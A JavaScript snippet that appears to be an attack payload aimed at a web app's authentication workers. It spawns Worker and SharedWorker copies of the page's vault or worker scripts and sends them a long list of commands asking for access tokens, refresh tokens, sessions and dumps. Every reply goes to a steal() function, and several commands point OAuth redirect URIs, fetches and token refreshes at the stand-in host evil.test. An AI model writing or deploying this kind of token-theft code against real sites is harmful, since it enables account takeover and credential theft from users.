// H-17, H-19, H-31: a worker of one's own from the library's script, or another port of the one that runs, spoken to in its
// own language and in some that it might understand.

const told = performance.getEntriesByType("resource").map(({ name }) => name).filter((name) => /vault|worker/.test(name) && !/\.wasm/.test(name));
const scripts = [...new Set([...told, target.worker].filter(Boolean))];
const url = `${target.api}by-own-port`;
const commands = [
  { kind: "ready", url: location.href },
  { kind: "userInfo" },
  { kind: "trace" },
  { kind: "fetch", url, method: "GET", headers: [], init: {} },
  { kind: "fetch", url: "https://evil.test/stolen", method: "GET", headers: [], init: {} },
  { kind: "config", resources: ["https://evil.test/"] },
  { kind: "signIn", options: { extraParams: [["redirect_uri", "https://evil.test/"]] } },
  { kind: "signIn", options: { prompt: "none", returnTo: "//evil.test/" } },
  ...["getToken", "getAccessToken", "getTokens", "accessToken", "refreshToken", "token", "tokens", "session", "user", "state", "dump", "export", "sign", "proof"].map((kind) => ({ kind, type: kind, method: kind })),
  { type: "init", allowedBaseUrl: "https://evil.test" },
  { type: "refresh", fetchUrl: "https://evil.test/token", fetchOptions: { method: "POST", body: "grant_type=refresh_token" }, auth: { audience: "default", scope: "" } },
  // Whoever ends the session is given the address to go to.
  { kind: "signOut", options: {} },
];
const speak = async (port) => {
  port.onmessage = ({ data }) => steal("reply", data);
  commands.forEach((command, index) => port.postMessage({ ...command, id: 1_000 + index }));
  await wait(400);
};
for (const script of scripts) {
  try {
    const { port1, port2 } = new MessageChannel();
    const worker = new Worker(script, { name: target.name });
    worker.onmessage = ({ data }) => steal("worker", data);
    worker.postMessage(null, [port2]);
    for (const command of commands) worker.postMessage(command);
    const shared = new SharedWorker(script, { name: target.name, extendedLifetime: true });
    await Promise.all([speak(port1), speak(shared.port)]);
  } catch {
    // No such worker.
  }
}
